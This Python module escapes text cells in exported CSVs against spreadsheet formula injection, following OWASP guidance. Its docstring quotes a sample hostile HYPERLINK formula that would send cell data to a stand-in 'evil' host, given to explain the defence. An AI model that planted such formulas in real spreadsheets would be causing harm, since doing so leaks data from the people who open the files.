"""CSV files people open in a spreadsheet: every text cell safe from formula injection.

A product title such as ``=HYPERLINK("http://evil/?"&A1, "click")`` comes from a seller's
manifest, travels through the catalogue and lands in an exported CSV; Excel, LibreOffice
and Google Sheets run a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula. Following the OWASP rule, such text cells get a
leading single quote, which the spreadsheet shows as plain text. Numbers are left alone:
``-0.5`` in a numeric column stays a number, while the text ``"-0.5"`` is escaped.

Every CSV the engine or the app writes for people goes through :func:`csv_safe` (or
:func:`to_csv`): the CLI's ``report`` and ``evaluate --out``, and the app's download buttons.
"""
from __future__ import annotations

from pathlib import Path

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value, with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` with every text cell (and column name) escaped; numeric columns untouched."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        if s.dtype == object or pd.api.types.is_string_dtype(s.dtype):
            out[col] = s.map(safe_cell, na_action="ignore")
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def to_csv(df: pd.DataFrame, path: str | Path | None = None, **kwargs) -> str | None:
    """``csv_safe(df).to_csv(...)`` without the index: the text when ``path`` is None."""
    kwargs.setdefault("index", False)
    return csv_safe(df).to_csv(path, **kwargs)
